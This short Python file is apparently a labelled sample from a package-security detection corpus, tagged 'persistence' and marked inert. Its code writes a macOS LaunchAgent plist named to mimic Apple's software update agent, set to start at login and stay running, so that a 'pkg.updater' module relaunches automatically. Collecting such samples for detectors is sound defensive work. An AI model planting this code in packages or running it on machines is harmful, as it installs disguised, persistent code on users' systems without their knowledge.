# pkgguard corpus 382 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import plistlib
import sys

label = "com.apple.softwareupdate.agent"
path = os.path.join(os.path.expanduser("~"), "Library", "LaunchAgents", label + ".plist")
with open(path, "wb") as f:
    plistlib.dump(
        {"Label": label, "ProgramArguments": [sys.executable, "-m", "pkg.updater"], "RunAtLoad": True, "KeepAlive": True},
        f,
    )
